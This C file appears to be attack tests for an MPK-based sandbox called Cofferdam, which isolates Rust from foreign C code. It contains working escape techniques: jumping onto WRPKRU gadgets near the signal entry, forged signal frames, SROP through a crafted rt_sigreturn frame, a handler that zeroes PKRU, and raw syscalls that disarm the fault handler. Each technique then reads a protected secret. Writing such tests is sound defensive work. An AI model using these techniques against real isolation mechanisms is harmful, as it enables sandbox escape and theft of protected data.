/*
 * Foreign code that turns the signal path and the trampolines against Rust
 * (issue 9): it jumps onto the WRPKRUs near Cofferdam's signal entry, calls
 * the signal entry itself with frames it made up, returns through
 * rt_sigreturn with a frame it built (SROP) or through a handler of its own,
 * and tries to disarm the fault handler from threads of its own.
 *
 * Everything an attacker needs is found the way an attacker finds it: the
 * signal entry's address from a query-only rt_sigaction, PKRU's place in the
 * XSAVE area from CPUID. The only thing Rust hands over is the secret's
 * address (the suite's "leaked address").
 */
#define _GNU_SOURCE
#include <cpuid.h>
#include <errno.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/syscall.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

/* Byte loops: every access is a plain load or store at the address named. */
static void copy_bytes(volatile uint8_t *dst, const volatile uint8_t *src, size_t n) {
    for (size_t i = 0; i < n; i++) dst[i] = src[i];
}
static void zero_bytes(volatile uint8_t *dst, size_t n) {
    for (size_t i = 0; i < n; i++) dst[i] = 0;
}

static uint32_t read_pkru(int have_pku) {
    uint32_t eax = 0, edx;
    if (have_pku) __asm__ volatile("xor %%ecx, %%ecx\n\trdpkru" : "=a"(eax), "=d"(edx) : : "ecx");
    return eax;
}

/* The kernel's struct sigaction (rt_sigaction's layout, not glibc's). */
struct k_sigaction {
    void *handler;
    unsigned long flags;
    void *restorer;
    uint64_t mask;
};
#define K_SA_SIGINFO 4ul
#define K_SA_RESTORER 0x04000000ul

/* The SIGSEGV handler as the kernel holds it, by a query-only raw
 * rt_sigaction: under Cofferdam, its signal entry. */
uintptr_t cd_segv_handler(void) {
    struct k_sigaction old;
    zero_bytes((uint8_t *)&old, sizeof old);
    if (syscall(SYS_rt_sigaction, SIGSEGV, NULL, &old, 8) != 0) return 0;
    return (uintptr_t)old.handler;
}

/* ────────────── 1. signal-entry-wrpkru: jump onto each WRPKRU ────────────── */

/* The window searched: 2 KiB either side of the handler. */
#define WINDOW_BEFORE 2048
#define WINDOW_AFTER 2048

/* The `index`-th `0F 01 EF` in [handler - 2 KiB, handler + 2 KiB), or 0. */
uintptr_t cd_find_wrpkru(size_t index) {
    uintptr_t h = cd_segv_handler();
    if (h == 0) return 0;
    const volatile uint8_t *p = (const uint8_t *)(h - WINDOW_BEFORE);
    size_t seen = 0;
    for (size_t i = 0; i + 3 <= WINDOW_BEFORE + WINDOW_AFTER; i++) {
        if (p[i] == 0x0f && p[i + 1] == 0x01 && p[i + 2] == 0xef) {
            if (seen == index) return (uintptr_t)(p + i);
            seen++;
        }
    }
    return 0;
}

/*
 * cd_hop(target, fake_rsp): saves its callee-saved registers and stack
 * pointer in foreign memory, switches to `fake_rsp`, sets eax = ecx = edx = 0
 * (PKRU = 0: every right), r10 = r11 = its continuation, and jumps to
 * `target`. Wherever the code after the WRPKRU goes with these, it comes back
 * to the continuation if it can: through r10 (the old `wrpkru; jmp r10`),
 * through r11, or, if it pops a frame pointer and six registers and returns
 * (the gate's landing pad), through the fake stack, which is laid out for
 * exactly that. The continuation returns 1.
 */
extern long cd_hop(uintptr_t target, uint64_t *fake_rsp);
extern char cd_hop_back[];
__asm__(".intel_syntax noprefix\n"
        ".text\n"
        ".p2align 4\n"
        ".globl cd_hop\n"
        ".type cd_hop,@function\n"
        "cd_hop:\n"
        "    push rbx\n"
        "    push rbp\n"
        "    push r12\n"
        "    push r13\n"
        "    push r14\n"
        "    push r15\n"
        "    mov qword ptr [rip + cd_hop_saved_rsp], rsp\n"
        "    mov rsp, rsi\n"
        "    lea r10, [rip + cd_hop_back]\n"
        "    mov r11, r10\n"
        "    xor eax, eax\n"
        "    xor ecx, ecx\n"
        "    xor edx, edx\n"
        "    jmp rdi\n"
        ".globl cd_hop_back\n"
        "cd_hop_back:\n"
        "    mov rsp, qword ptr [rip + cd_hop_saved_rsp]\n"
        "    pop r15\n"
        "    pop r14\n"
        "    pop r13\n"
        "    pop r12\n"
        "    pop rbp\n"
        "    pop rbx\n"
        "    mov eax, 1\n"
        "    ret\n"
        ".size cd_hop, .-cd_hop\n"
        ".local cd_hop_saved_rsp\n"
        ".comm cd_hop_saved_rsp, 8, 8\n"
        ".att_syntax prefix\n");

/* The fake stack and the fake gate frame it names (foreign memory). The
 * frame holds valid MXCSR/x87 control words where the landing pad loads
 * them (offsets 208 and 212 of the gate's frame). */
static uint64_t hop_stack[64] __attribute__((aligned(16)));
static uint8_t hop_frame[1024] __attribute__((aligned(64)));

/*
 * Jumps onto the `index`-th WRPKRU near the signal entry as above; if the
 * continuation is reached, records PKRU there (status[0] = 1, status[1] =
 * PKRU) and copies the secret into `out`. Returns 1 if it got back, 0 if
 * there is no such WRPKRU; -1 without protection keys (nothing to jump to).
 */
int cd_signal_entry_wrpkru(size_t index, const uint8_t *secret, uint8_t *out, size_t n,
                           uint32_t *status, int have_pku) {
    if (!have_pku) return -1;
    uintptr_t target = cd_find_wrpkru(index);
    if (target == 0) return 0;
    zero_bytes(hop_frame, sizeof hop_frame);
    *(volatile uint32_t *)(hop_frame + 208) = 0x1f80;
    *(volatile uint16_t *)(hop_frame + 212) = 0x037f;
    for (int i = 0; i < 64; i++) hop_stack[i] = 0;
    /* At [rsp]: the "frame", then six registers, then the return address;
     * 32 words of room below for anything that calls. */
    hop_stack[32] = (uint64_t)(uintptr_t)hop_frame;
    hop_stack[39] = (uint64_t)(uintptr_t)cd_hop_back;
    cd_hop(target, &hop_stack[32]);
    status[0] = 1;
    status[1] = read_pkru(have_pku);
    copy_bytes(out, secret, n);
    return 1;
}

/* ─────────────── 2. forged-signal-frame: call the entry directly ─────────────── */

/* PKRU's offset in the (standard-form) XSAVE area: CPUID.(EAX=0DH,ECX=9).EBX. */
uint32_t cd_pkru_xsave_offset(void) {
    unsigned a, b, c, d;
    if (!__get_cpuid_count(0xd, 9, &a, &b, &c, &d)) return 0;
    return b;
}
static uint64_t xcr0(void) {
    uint32_t lo, hi;
    __asm__ volatile("xgetbv" : "=a"(lo), "=d"(hi) : "c"(0));
    return ((uint64_t)hi << 32) | lo;
}
/* The features a signal frame of this process carries: those XCR0 enables,
 * less the ones the kernel keeps behind XFD until a process asks for them
 * (AMX's tile data, CPUID.(0DH,i).ECX bit 2): their state is not in an
 * ordinary process's frames, and the kernel refuses a frame that claims a
 * larger area than its own. */
static uint64_t frame_features(void) {
    uint64_t x = xcr0();
    for (unsigned i = 2; i < 63; i++) {
        unsigned a, b, c, d;
        if (!(x & (1ull << i))) continue;
        if (__get_cpuid_count(0xd, i, &a, &b, &c, &d) && (c & 4)) x &= ~(1ull << i);
    }
    return x;
}
/* The size of the standard-form XSAVE area for `features`: the end of the
 * last component (at least the legacy area and the header, 576 bytes). */
static uint32_t xsave_size(uint64_t features) {
    uint32_t end = 576;
    for (unsigned i = 2; i < 63; i++) {
        unsigned a, b, c, d;
        if (!(features & (1ull << i))) continue;
        if (!__get_cpuid_count(0xd, i, &a, &b, &c, &d)) return 0;
        if (b + a > end) end = b + a;
    }
    return end;
}

#ifndef FP_XSTATE_MAGIC1
#define FP_XSTATE_MAGIC1 0x46505853u
#endif
#ifndef FP_XSTATE_MAGIC2
#define FP_XSTATE_MAGIC2 0x46505845u
#endif

/* Fills `fp` (64-aligned, 4 KiB) as the kernel fills a signal frame's XSAVE
 * area: the state itself (XSAVE64), the software-reserved bytes 464.. that
 * tell sigreturn an XSAVE frame follows, MAGIC2 after it; then PKRU = `pkru`
 * with its XSTATE_BV bit as `pkru_present` says. Returns 0, or -1 where the
 * CPU lacks XSAVE/PKRU. */
static int fill_xsave(uint8_t *fp, uint32_t pkru, int pkru_present) {
    uint64_t features = frame_features();
    uint32_t off = cd_pkru_xsave_offset(), size = xsave_size(features);
    if (off == 0 || size == 0 || size + 4 > 4096 || off + 4 > size) return -1;
    zero_bytes(fp, 4096);
    /* Only the frame's features: XSAVE of all of XCR0 would write AMX tile
     * data (8 KiB) past the end of this 4 KiB area. */
    __asm__ volatile("xsave64 (%0)"
                     :
                     : "r"(fp), "a"((uint32_t)features), "d"((uint32_t)(features >> 32))
                     : "memory");
    volatile uint32_t *sw = (volatile uint32_t *)(fp + 464);
    sw[0] = FP_XSTATE_MAGIC1;
    sw[1] = size + 4; /* extended_size */
    *(volatile uint64_t *)(fp + 472) = features; /* xfeatures */
    sw[4] = size;     /* xstate_size */
    *(volatile uint32_t *)(fp + size) = FP_XSTATE_MAGIC2;
    volatile uint64_t *bv = (volatile uint64_t *)(fp + 512);
    if (pkru_present)
        *bv |= 1ull << 9;
    else
        *bv &= ~(1ull << 9);
    *(volatile uint32_t *)(fp + off) = pkru;
    return 0;
}

static uint8_t forge_fp[4096] __attribute__((aligned(64)));

/*
 * Calls Cofferdam's signal entry (found by rt_sigaction) with a signal frame
 * of its own:
 *  kind 0: SIGSYS, si_code SYS_SECCOMP, syscall pkey_mprotect(secret's page,
 *          4096, RW, key 0), the XSAVE area saying PKRU was in its init state
 *          (0: "trusted code was trapped", so re-issue it with the token);
 *  kind 1: SIGSEGV at address 0, PKRU denying everything but key 0 ("foreign
 *          code faulted", so end the gate call and point the frame at the
 *          Rust stack).
 * `area` is a foreign buffer: the ucontext, then the siginfo (128 bytes),
 * then C's copy of the ucontext and of the XSAVE area it points to, which the
 * caller compares with what is there afterwards. RIP/RSP in the ucontext are
 * sentinels. Then reads the secret into `out`. kind -1: no entry to call
 * (unprotected), just read.
 */
int cd_forge_signal(int kind, uint8_t *area, const uint8_t *secret, uint8_t *out, size_t n) {
    ucontext_t *uc = (ucontext_t *)area;
    siginfo_t *info = (siginfo_t *)(area + sizeof(ucontext_t));
    uint8_t *copy = area + sizeof(ucontext_t) + 128;
    if (kind >= 0) {
        void (*entry)(int, siginfo_t *, void *) =
            (void (*)(int, siginfo_t *, void *))cd_segv_handler();
        if (entry == NULL) return -1;
        int sig = kind == 0 ? SIGSYS : SIGSEGV;
        zero_bytes((uint8_t *)info, sizeof *info);
        zero_bytes((uint8_t *)uc, sizeof *uc);
        uint8_t *raw = (uint8_t *)info;
        *(int *)(raw + 0) = sig;        /* si_signo */
        *(int *)(raw + 8) = 1;          /* si_code: SYS_SECCOMP / SEGV_MAPERR */
        if (kind == 0) {
            *(uint64_t *)(raw + 16) = 0x401000;       /* si_call_addr */
            *(int *)(raw + 24) = SYS_pkey_mprotect;  /* si_syscall */
            *(uint32_t *)(raw + 28) = 0xc000003eu;   /* si_arch: AUDIT_ARCH_X86_64 */
        }
        uintptr_t page = (uintptr_t)secret & ~(uintptr_t)4095;
        greg_t *g = uc->uc_mcontext.gregs;
        g[REG_RAX] = kind == 0 ? SYS_pkey_mprotect : 0;
        g[REG_RDI] = (greg_t)page;
        g[REG_RSI] = 4096;
        g[REG_RDX] = 3; /* PROT_READ | PROT_WRITE */
        g[REG_R10] = 0; /* key 0 */
        g[REG_RIP] = (greg_t)0x4141414141414141ll;
        g[REG_RSP] = (greg_t)0x4242424242424242ll;
        g[REG_EFL] = 0x202;
        g[REG_CSGSFS] = 0x33;
        uc->uc_flags = 1; /* UC_FP_XSTATE */
        if (fill_xsave(forge_fp, kind == 0 ? 0 : 0xfffffffcu, kind != 0) != 0) return -1;
        uc->uc_mcontext.fpregs = (fpregset_t)forge_fp;
        copy_bytes(copy, (uint8_t *)uc, sizeof *uc);
        copy_bytes(copy + sizeof *uc, forge_fp, 4096);
        entry(sig, info, uc);
    }
    copy_bytes(out, secret, n);
    return 1;
}

/* The size of glibc's ucontext_t, for the Rust side's buffers. */
size_t cd_ucontext_size(void) { return sizeof(ucontext_t); }

/*
 * The same forged SIGSYS frame, from a thread of foreign code's own (outside
 * any gate call): the entry handles it without rights, and, resuming the
 * context the frame names (which C controls), comes back here. The thread
 * reports the syscall result the entry put in rax; then this function (in
 * the gate call) reads the secret, which it can only do if pkey_mprotect was
 * re-issued for it.
 */
struct forge_thread {
    const uint8_t *secret;
    long rax;
    int resumed;
};
extern long cd_entry_resume(void *entry, int sig, siginfo_t *info, ucontext_t *uc);
extern char cd_entry_resumed[];
__asm__(".intel_syntax noprefix\n"
        ".text\n"
        ".p2align 4\n"
        ".globl cd_entry_resume\n"
        ".type cd_entry_resume,@function\n"
        /* long cd_entry_resume(entry, sig, info, uc): calls entry(sig, info,
         * uc) with the registers saved in foreign memory; if the entry
         * resumes uc's context at cd_entry_resumed, returns rax from it;
         * if the entry returns, returns -12345. */
        "cd_entry_resume:\n"
        "    push rbx\n"
        "    push rbp\n"
        "    push r12\n"
        "    push r13\n"
        "    push r14\n"
        "    push r15\n"
        "    sub rsp, 8\n"
        "    mov qword ptr [rip + cd_entry_saved_rsp], rsp\n"
        "    mov rax, rdi\n"
        "    mov edi, esi\n"
        "    mov rsi, rdx\n"
        "    mov rdx, rcx\n"
        "    call rax\n"
        "    mov rax, -12345\n"
        "    jmp 1f\n"
        ".globl cd_entry_resumed\n"
        "cd_entry_resumed:\n"
        "    mov rsp, qword ptr [rip + cd_entry_saved_rsp]\n"
        "1:\n"
        "    add rsp, 8\n"
        "    pop r15\n"
        "    pop r14\n"
        "    pop r13\n"
        "    pop r12\n"
        "    pop rbp\n"
        "    pop rbx\n"
        "    ret\n"
        ".size cd_entry_resume, .-cd_entry_resume\n"
        ".local cd_entry_saved_rsp\n"
        ".comm cd_entry_saved_rsp, 8, 8\n"
        ".att_syntax prefix\n");

static uint64_t resume_stack[512] __attribute__((aligned(16)));

static void *forge_in_thread(void *arg) {
    struct forge_thread *t = arg;
    void *entry = (void *)cd_segv_handler();
    siginfo_t info;
    ucontext_t uc;
    zero_bytes((uint8_t *)&info, sizeof info);
    zero_bytes((uint8_t *)&uc, sizeof uc);
    uint8_t *raw = (uint8_t *)&info;
    *(int *)(raw + 0) = SIGSYS;
    *(int *)(raw + 8) = 1;
    *(int *)(raw + 24) = SYS_pkey_mprotect;
    *(uint32_t *)(raw + 28) = 0xc000003eu;
    greg_t *g = uc.uc_mcontext.gregs;
    g[REG_RAX] = SYS_pkey_mprotect;
    g[REG_RDI] = (greg_t)((uintptr_t)t->secret & ~(uintptr_t)4095);
    g[REG_RSI] = 4096;
    g[REG_RDX] = 3;
    g[REG_R10] = 0;
    g[REG_RIP] = (greg_t)(uintptr_t)cd_entry_resumed;
    g[REG_RSP] = (greg_t)(uintptr_t)&resume_stack[448];
    g[REG_EFL] = 0x202;
    g[REG_CSGSFS] = 0x33;
    uc.uc_flags = 1;
    /* The thread's current signal mask, so that resuming restores it. */
    syscall(SYS_rt_sigprocmask, SIG_BLOCK, NULL, &uc.uc_sigmask, 8);
    if (fill_xsave(forge_fp, 0, 0) != 0) return NULL;
    uc.uc_mcontext.fpregs = (fpregset_t)forge_fp;
    t->rax = cd_entry_resume(entry, SIGSYS, &info, &uc);
    t->resumed = 1;
    return NULL;
}

/* Stores the thread's view in *rax: the rax the entry left (-EPERM
 * expected), -12345 if the entry returned, -99999 if it did not come back.
 * Then reads the secret into `out`. Returns 1. */
int cd_forge_signal_in_thread(const uint8_t *secret, uint8_t *out, size_t n, long *rax) {
    struct forge_thread t = {secret, -99999, 0};
    pthread_t th;
    if (pthread_create(&th, NULL, forge_in_thread, &t) != 0) return -1;
    pthread_join(th, NULL);
    *rax = t.rax;
    copy_bytes(out, secret, n);
    return 1;
}

/* ─────────────────── 3. srop: rt_sigreturn through a built frame ─────────────────── */

static ucontext_t srop_uc __attribute__((aligned(64)));
static uint8_t srop_fp[4096] __attribute__((aligned(64)));
static uint64_t srop_stack[1024] __attribute__((aligned(16)));
__attribute__((used)) static volatile uint64_t srop_saved_rsp;

struct srop_report {
    uint64_t reached;
    uint64_t rbx, r12, rdi;
    uint64_t pkru;
};

extern void cd_srop_go(ucontext_t *uc);
extern char cd_srop_landing[];
void cd_srop_landed(const uint8_t *secret, uint8_t *out, size_t n, uint64_t rbx, uint64_t r12,
                    struct srop_report *rep, uint64_t have_pku);
__asm__(".intel_syntax noprefix\n"
        ".text\n"
        ".p2align 4\n"
        ".globl cd_srop_go\n"
        ".type cd_srop_go,@function\n"
        /* void cd_srop_go(ucontext_t *uc): saves its registers, then raw
         * rt_sigreturn with rsp = uc (the kernel reads the frame at rsp - 8:
         * restorer slot, then the ucontext). Returns through
         * cd_srop_landing if sigreturn resumed there. */
        "cd_srop_go:\n"
        "    push rbx\n"
        "    push rbp\n"
        "    push r12\n"
        "    push r13\n"
        "    push r14\n"
        "    push r15\n"
        "    sub rsp, 8\n"
        "    mov qword ptr [rip + srop_saved_rsp], rsp\n"
        "    mov rsp, rdi\n"
        "    mov eax, 15\n" /* rt_sigreturn */
        "    syscall\n"
        "    ud2\n"
        ".globl cd_srop_landing\n"
        "cd_srop_landing:\n"
        /* Registers as the built frame said: rdi secret, rsi out, rdx n,
         * rcx report, rbx and r12 markers, r8 have_pku; rsp the SROP stack. */
        "    mov r9, rcx\n"
        "    mov rcx, rbx\n"
        "    push r8\n"
        "    push r8\n"
        "    mov r8, r12\n"
        "    call cd_srop_landed\n"
        "    mov rsp, qword ptr [rip + srop_saved_rsp]\n"
        "    add rsp, 8\n"
        "    pop r15\n"
        "    pop r14\n"
        "    pop r13\n"
        "    pop r12\n"
        "    pop rbp\n"
        "    pop rbx\n"
        "    ret\n"
        ".size cd_srop_go, .-cd_srop_go\n"
        ".att_syntax prefix\n");

#define SROP_RBX 0x53524f505f524258ull /* "XBR_PORS" */
#define SROP_R12 0x53524f505f523132ull

void cd_srop_landed(const uint8_t *secret, uint8_t *out, size_t n, uint64_t rbx, uint64_t r12,
                    struct srop_report *rep, uint64_t have_pku) {
    rep->reached = 1;
    rep->rbx = rbx;
    rep->r12 = r12;
    rep->rdi = (uint64_t)(uintptr_t)secret;
    rep->pkru = read_pkru((int)have_pku);
    copy_bytes(out, secret, n);
}

/*
 * SROP: builds a signal frame (ucontext + XSAVE area with PKRU = 0 present)
 * whose rip is cd_srop_landing, with chosen registers, and returns through
 * it with a raw rt_sigreturn. At the landing it reports the registers and
 * PKRU it got, and copies the secret into `out`. Returns 1 if it landed.
 */
int cd_srop(const uint8_t *secret, uint8_t *out, size_t n, struct srop_report *rep,
            int have_pku) {
    zero_bytes((uint8_t *)&srop_uc, sizeof srop_uc);
    if (have_pku) {
        if (fill_xsave(srop_fp, 0, 1) != 0) return -1;
        srop_uc.uc_mcontext.fpregs = (fpregset_t)srop_fp;
        srop_uc.uc_flags = 1 | 2; /* UC_FP_XSTATE | UC_SIGCONTEXT_SS */
    } else {
        srop_uc.uc_flags = 2;
    }
    /* Keep the alternate stack and the signal mask as they are. */
    syscall(SYS_sigaltstack, NULL, &srop_uc.uc_stack);
    syscall(SYS_rt_sigprocmask, SIG_BLOCK, NULL, &srop_uc.uc_sigmask, 8);
    greg_t *g = srop_uc.uc_mcontext.gregs;
    g[REG_RIP] = (greg_t)(uintptr_t)cd_srop_landing;
    g[REG_RSP] = (greg_t)(uintptr_t)&srop_stack[1000];
    g[REG_RDI] = (greg_t)(uintptr_t)secret;
    g[REG_RSI] = (greg_t)(uintptr_t)out;
    g[REG_RDX] = (greg_t)n;
    g[REG_RCX] = (greg_t)(uintptr_t)rep;
    g[REG_R8] = have_pku;
    g[REG_RBX] = (greg_t)SROP_RBX;
    g[REG_R12] = (greg_t)SROP_R12;
    g[REG_EFL] = 0x202;
    g[REG_CSGSFS] = 0x33 | (0x2bll << 48); /* cs = __USER_CS, ss = __USER_DS */
    cd_srop_go(&srop_uc);
    return rep->reached == 1 && rep->rbx == SROP_RBX && rep->r12 == SROP_R12 ? 1 : 0;
}

uint64_t cd_srop_marker(int which) { return which == 0 ? SROP_RBX : SROP_R12; }

/* A handler of foreign code's own, installed with the ordinary sigaction. */
static volatile int usr1_runs;
static void usr1_plain(int sig) {
    (void)sig;
    usr1_runs++;
}
/* Returns sigaction's result, and errno in *err. */
int cd_install_handler(int *err) {
    struct sigaction sa;
    zero_bytes((uint8_t *)&sa, sizeof sa);
    sa.sa_handler = usr1_plain;
    errno = 0;
    int r = sigaction(SIGUSR1, &sa, NULL);
    *err = errno;
    return r;
}

/* A handler installed with a raw rt_sigaction (past any interposition): it
 * zeroes PKRU in the frame the kernel wrote for it and returns through its
 * own restorer (rt_sigreturn). */
static volatile uint32_t pkru_off_for_handler;
static void usr1_zero_pkru(int sig, siginfo_t *info, void *ctx) {
    (void)sig;
    (void)info;
    ucontext_t *uc = ctx;
    uint8_t *fp = (uint8_t *)uc->uc_mcontext.fpregs;
    usr1_runs++;
    if (fp != NULL && pkru_off_for_handler != 0) {
        *(volatile uint64_t *)(fp + 512) |= 1ull << 9;
        *(volatile uint32_t *)(fp + pkru_off_for_handler) = 0;
    }
}
extern void cd_restorer(void);
__asm__(".text\n"
        ".p2align 4\n"
        ".globl cd_restorer\n"
        ".type cd_restorer,@function\n"
        "cd_restorer:\n"
        "    movl $15, %eax\n"
        "    syscall\n"
        "    ud2\n"
        ".size cd_restorer, .-cd_restorer\n");

/* Installs usr1_zero_pkru by raw rt_sigaction, raises SIGUSR1, and after the
 * handler returned reports PKRU (pkru_after) and copies the secret. Returns
 * the handler's run count. */
int cd_handler_zeroes_pkru(const uint8_t *secret, uint8_t *out, size_t n, uint32_t *pkru_after,
                           int have_pku) {
    struct k_sigaction act;
    zero_bytes((uint8_t *)&act, sizeof act);
    act.handler = (void *)usr1_zero_pkru;
    act.flags = K_SA_SIGINFO | K_SA_RESTORER;
    act.restorer = (void *)cd_restorer;
    pkru_off_for_handler = have_pku ? cd_pkru_xsave_offset() : 0;
    usr1_runs = 0;
    if (syscall(SYS_rt_sigaction, SIGUSR1, &act, NULL, 8) != 0) return -1;
    syscall(SYS_tgkill, getpid(), syscall(SYS_gettid), SIGUSR1);
    *pkru_after = read_pkru(have_pku);
    copy_bytes(out, secret, n);
    return usr1_runs;
}

/* ─────────────────────── 4. handler-disarm ─────────────────────── */

static void *raise_twice(void *arg) {
    (void)arg;
    raise(SIGSEGV);
    raise(SIGSEGV);
    return NULL;
}
/* A thread of its own raises SIGSEGV twice. Returns 0 once it is joined. */
int cd_thread_raise_segv_twice(void) {
    pthread_t th;
    if (pthread_create(&th, NULL, raise_twice, NULL) != 0) return -1;
    pthread_join(th, NULL);
    return 0;
}

static void *null_write_thread(void *arg) {
    (void)arg;
    *(volatile int *)0 = 1;
    return NULL;
}
/* A thread of its own writes to address 0. Returns 0 once it is joined. */
int cd_thread_null_write(void) {
    pthread_t th;
    if (pthread_create(&th, NULL, null_write_thread, NULL) != 0) return -1;
    pthread_join(th, NULL);
    return 0;
}

/* A thread of its own that outlives the call: after `delay_ms` it sends
 * SIGSEGV `count` times to thread `tid` (the main thread, busy with Rust
 * code outside any gate call by then), 20 ms apart. Detached. */
struct kill_later {
    int tid, count, delay_ms;
};
static struct kill_later kill_args;
static void *kill_later_thread(void *arg) {
    struct kill_later *k = arg;
    struct timespec ts = {0, (long)k->delay_ms * 1000000L};
    nanosleep(&ts, NULL);
    for (int i = 0; i < k->count; i++) {
        syscall(SYS_tgkill, getpid(), k->tid, SIGSEGV);
        struct timespec gap = {0, 20 * 1000000L};
        nanosleep(&gap, NULL);
    }
    return NULL;
}
int cd_segv_main_later(int tid, int count, int delay_ms) {
    pthread_t th;
    kill_args.tid = tid;
    kill_args.count = count;
    kill_args.delay_ms = delay_ms;
    if (pthread_create(&th, NULL, kill_later_thread, &kill_args) != 0) return -1;
    pthread_detach(th);
    return 0;
}

/* Puts the default action back for SIGSEGV with a raw rt_sigaction (past any
 * interposition of sigaction). Returns the syscall's result. */
long cd_raw_segv_default(void) {
    struct k_sigaction act;
    zero_bytes((uint8_t *)&act, sizeof act);
    return syscall(SYS_rt_sigaction, SIGSEGV, &act, NULL, 8);
}

/* Disables this thread's alternate signal stack with a raw sigaltstack
 * (past any interposition). Returns the syscall's result. */
long cd_raw_altstack_disable(void) {
    stack_t ss;
    zero_bytes((uint8_t *)&ss, sizeof ss);
    ss.ss_flags = SS_DISABLE;
    return syscall(SYS_sigaltstack, &ss, NULL);
}
